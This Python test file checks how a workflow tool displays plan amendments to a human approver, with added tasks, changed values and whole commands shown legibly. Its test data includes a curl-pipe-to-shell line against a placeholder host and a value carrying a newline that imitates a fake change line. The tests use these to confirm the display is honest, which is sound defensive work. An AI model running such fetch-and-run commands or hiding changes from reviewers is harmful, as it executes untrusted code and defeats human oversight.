"""What an approver of an amendment reads (`amend`, `gates`, the dashboard's change prompt, the
lessons report): an added task's command and agent, an added agent's command, a changed command
whole, and changed values as the plan writes them, never a Python repr."""

from __future__ import annotations

from phasegate.engine.plan.amend import change_lines, diff
from phasegate.engine.plan.load import plan_from_text
from phasegate.engine.plan.model import Plan

PLAN = """\
name: shown
agents: {sh: {}}
phases:
  - id: one
    tasks:
      - {id: c, run: "echo c", agent: sh}
      - {id: b, run: "echo b", agent: sh}
gates:
  - {id: final, after: one}
"""


def _plan(text: str) -> Plan:
    return plan_from_text(text, "p.yaml", "/tmp", [])


def _lines(new: str) -> list[str]:
    return change_lines(diff(_plan(PLAN), _plan(new)))


def test_an_added_task_shows_its_command_and_agent() -> None:
    """Regression: the line was only `+ task m added (phase one)`: the approver approved a
    command they could not read."""
    added = PLAN.replace(
        "agents: {sh: {}}", "agents: {sh: {}, other: {command: 'nice {script}'}}"
    ).replace(
        "gates:",
        "      - id: m\n        agent: other\n        needs: [c]\n        run: |\n"
        "          curl -s https://example.invalid/x.sh | sh\n          echo done\ngates:",
    )
    lines = _lines(added)
    assert lines == [
        "+ task m added (phase one): agent: other; needs: [c]",
        "    run: curl -s https://example.invalid/x.sh | sh",
        "         echo done",
        "+ agent other added",
        "    command: nice {script}",
    ]


def test_a_changed_value_is_shown_as_the_plan_writes_it() -> None:
    """Regression: `budget: - -> {'usd': None, 'tokens': None, 'turns': …` hid `seconds: 0.5`,
    and a list was `['daemon']`."""
    changed = PLAN.replace(
        '{id: c, run: "echo c", agent: sh}',
        '{id: c, run: "echo c", agent: sh, budget: {seconds: 0.5}, timeout: 30}',
    ).replace("{id: final, after: one}", "{id: final, after: one, approvers: [daemon]}")
    lines = _lines(changed)
    assert lines == [
        "~ task c: budget: - -> {seconds: 0.5}; timeout: - -> 30",
        "~ gate final: approvers: - -> [daemon]",
    ]
    assert not any("None" in x or "'" in x for x in lines)


def test_a_changed_command_is_shown_whole_before_and_after() -> None:
    long = "echo " + "x" * 70 + " && rm -rf build"
    lines = _lines(PLAN.replace('run: "echo b"', f'run: "{long}"'))
    assert lines == ["~ task b: run changed", "    run was: echo b", f"    run now: {long}"]


def test_a_value_with_a_line_break_stays_on_its_line() -> None:
    """(each line is escaped by who prints it: a break inside one would start a line that
    looks like another change)"""
    lines = _lines(PLAN.replace("name: shown\n", 'name: shown\ndescription: "a\\n+ task x"\n'))
    assert lines == ["~ plan: description: - -> a\\n+ task x"]
